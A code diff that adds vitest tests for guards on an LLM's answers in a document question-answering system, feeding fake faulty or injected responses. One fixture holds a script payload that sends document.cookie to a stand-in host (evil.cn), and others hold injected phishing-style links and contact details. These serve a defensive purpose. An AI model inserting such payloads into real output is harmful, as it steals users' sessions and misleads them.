@@ -3,10 +3,10 @@ import os from "node:os";
 import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { loadConfig } from "../../src/config.js";
-import { checkGrounded, UngroundedAnswerError } from "../../src/knowledge/answer.js";
+import { checkGrounded, UngroundedAnswerError } from "../../src/knowledge/llm-answer.js";
 import { openKnowledgeBase } from "../../src/knowledge/knowledge-base.js";
 import type { KnowledgeBase } from "../../src/knowledge/types.js";
-import { type FakeOpenAI, startFakeOpenAI } from "../helpers/fake-openai.js";
+import { type FakeChatResponse, type FakeOpenAI, startFakeOpenAI, stepOf } from "../helpers/fake-openai.js";
 
 let fake: FakeOpenAI;
 let dataDir: string;
@@ -77,6 +77,74 @@ describe("answers with an OpenAI-compatible model", () => {
     const r = await kb.ask("红烧肉怎么做好吃？");
     expect(r.abstained).toBe(true);
     expect(fake.requests.length).toBe(before);
+  });
+});
+
+/** The answer step gets `answer`; the rewrite and rerank steps fail, so retrieval stays offline. */
+const answerOnly = (answer: FakeChatResponse) => () => (b: Parameters<Parameters<FakeOpenAI["onChat"]>[0]>[0]) =>
+  stepOf(b) === "answer" ? answer : { status: 500, body: "{}" };
+
+describe("guards on the model's answer (one test per fault)", () => {
+  const offline = async () => {
+    fake.onChat(() => ({ status: 500, body: "{}" }));
+    return kb.ask(QUESTION);
+  };
+  const faults: [string, FakeChatResponse][] = [
+    ["a hang", { hang: true }],
+    ["HTTP 500", { status: 500, body: "<html>Internal Server Error</html>" }],
+    ["broken JSON", { status: 200, body: '{"id":"x","choices":[{"message":{"role":"assistant","content":"不需要 [1]' }],
+    ["an HTML error page with status 200", { status: 200, body: "<!doctype html><html><body>502 Bad Gateway</body></html>" }],
+    ["no citation", { content: "不需要写到具体条款。" }],
+    ["a citation of a passage not given", { content: "不需要写到具体条款 [9]。" }],
+    ["an answer of 1 MB ending in a citation", { content: `${"不需要写到具体条款。".repeat(100_000)} [1]` }],
+    ["an injected link", { content: "不需要写到具体条款 [1]，详见 https://zwgk-help.example.com/login" }],
+    ["an injected script", { content: "不需要写到具体条款 [1]<script>fetch('//evil.cn/'+document.cookie)</script>" }],
+    ["an injected phone number", { content: "不需要写到具体条款 [1]，如有疑问请拨打 13912345678。" }],
+    ["an injected e-mail address", { content: "不需要写到具体条款 [1]，材料发送到 help@evil.com。" }],
+  ];
+  it.each(faults)("answers offline on %s", async (_, fault) => {
+    const expected = await offline();
+    fake.onChat(answerOnly(fault)());
+    const r = await kb.ask(QUESTION);
+    expect(r.mode).toBe("extractive");
+    expect(r.answer).toBe(expected.answer);
+    expect(r.citations).toEqual(expected.citations);
+  });
+
+  it("strips harmless HTML from an answer and keeps it", async () => {
+    fake.onChat(answerOnly({ content: "<p><b>不需要</b>写到具体条款 [1]</p>" })());
+    const r = await kb.ask(QUESTION);
+    expect(r.mode).toBe("llm");
+    expect(r.answer).toBe("不需要写到具体条款 [1]");
+  });
+
+  it("keeps a link that the cited passage itself holds", async () => {
+    const q = "城乡规划领域标准指引的网址";
+    fake.onChat(() => ({ status: 500, body: "{}" }));
+    const cites = (await kb.ask(q, { top: 8 })).citations;
+    const n = cites.findIndex((c) => /https?:\/\/\S+/.test(c.text));
+    expect(n).toBeGreaterThanOrEqual(0);
+    const link = /https?:\/\/[\w./-]+/.exec(cites[n]!.text)![0];
+    const answer = `原文见 ${link} [${n + 1}]`;
+    fake.onChat(answerOnly({ content: answer })());
+    const r = await kb.ask(q, { top: 8 });
+    expect(r.mode).toBe("llm");
+    expect(r.answer).toBe(answer);
+    // the same link cited to a passage that does not hold it is refused
+    const other = cites.findIndex((c) => !c.text.includes(link));
+    fake.onChat(answerOnly({ content: `原文见 ${link} [${other + 1}]` })());
+    expect((await kb.ask(q, { top: 8 })).mode).toBe("extractive");
+  });
+
+  it("spends at most the one timeout on all the model's steps when every call hangs", async () => {
+    fake.onChat(() => ({ hang: true }));
+    const before = fake.requests.length;
+    const started = Date.now();
+    const r = await kb.ask(QUESTION);
+    expect(r.mode).toBe("extractive");
+    expect(fake.requests.slice(before).map(stepOf)).toEqual(["rewrite", "rerank", "answer"]);
+    // three steps of 700 ms each would take over 2.1 s; one shared budget ends near 700 ms
+    expect(Date.now() - started).toBeLessThan(1600);
   });
 });
 
